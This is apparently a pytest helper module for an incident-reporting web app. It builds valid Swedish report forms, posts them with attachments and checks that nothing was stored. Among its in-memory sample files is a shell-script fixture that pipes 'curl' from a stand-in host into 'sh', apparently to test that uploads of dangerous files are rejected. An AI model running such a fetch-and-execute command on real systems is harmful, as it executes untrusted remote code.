"""Helpers for the intake tests: a valid form per kind, and what "nothing was stored" means."""

import io
import os
import zipfile

import pytest
from sqlalchemy import func, select

from app.cases.models import Attachment, Case, Category, ComplaintDetails, JournalEvent
from app.extensions import db
from app.mailer import OutgoingMail
from app.org.models import Unit

SLUG = {"deviation": "avvikelse", "lex_sarah": "lex-sarah", "complaint": "klagomal"}
KINDS = tuple(SLUG)


@pytest.fixture
def app_config(tmp_path):
    # A folder per test, so "no file was written" is a plain look at the folder.
    return {"ATTACHMENT_DIR": str(tmp_path / "attachments")}


def unit_id(name: str) -> int:
    return db.session.scalar(select(Unit.id).where(Unit.name == name))


def category_ids(kind: str, count: int = 1) -> list[int]:
    return list(db.session.scalars(select(Category.id).where(Category.kind == kind, Category.active)
                                   .order_by(Category.position).limit(count)))


def valid_form(kind: str, **overrides) -> dict:
    """What a person fills in for a report of `kind` that is accepted."""
    data = {
        "unit_id": str(unit_id("Boendestöd")),
        "occurred_on": "2026-03-02",
        "occurred_time": "14:30",
        "description": "Brukaren fick inte sitt inplanerade besök på morgonen och var utan mat till lunch.",
        "category_ids": [str(i) for i in category_ids(kind)],
    }
    if kind == "lex_sarah":
        data["lex_sarah_type"] = "misconduct"
    if kind == "complaint":
        data.update({"channel": "phone", "relation": "relative", "complainant_name": "Karin Anhörig",
                     "complainant_phone": "070-123 45 67", "answer_wanted": "y"})
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


def post_report(client, kind: str, data: dict, files=()):
    """POST the form; files are (name, bytes) pairs."""
    payload = dict(data)
    if files:
        payload["attachments"] = [(io.BytesIO(content), name) for name, content in files]
    return client.post(f"/rapportera/{SLUG[kind]}", data=payload, content_type="multipart/form-data")


def counts() -> dict:
    return {model.__name__: db.session.scalar(select(func.count()).select_from(model))
            for model in (Case, ComplaintDetails, JournalEvent, Attachment, OutgoingMail)}


def stored_files(app) -> list[str]:
    folder = app.config["ATTACHMENT_DIR"]
    return sorted(os.listdir(folder)) if os.path.isdir(folder) else []


def assert_nothing_stored(app) -> None:
    assert counts() == {"Case": 0, "ComplaintDetails": 0, "JournalEvent": 0, "Attachment": 0, "OutgoingMail": 0}
    assert stored_files(app) == []


# --- files of each type, built in memory -------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20 + b"\xff\xd9"
TEXT = "Anteckning från nattpasset: dörren var olåst.\n".encode()
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def office_file(kind: str) -> bytes:
    main = {"docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument."
                                          "wordprocessingml.document.main+xml"),
            "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument."
                                        "spreadsheetml.sheet.main+xml")}[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml",
                         '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                         f'content-types"><Override PartName="/{main[0]}" ContentType="{main[1]}"/></Types>')
        archive.writestr(main[0], "<root/>")
    return buffer.getvalue()


def error_for(html: str, field: str) -> str:
    """The error text rendered next to a field (the macro gives it id="<field>-error")."""
    marker = f'id="{field}-error">'
    start = html.find(marker)
    if start < 0:
        return ""
    return html[start + len(marker):html.find("</p>", start)]
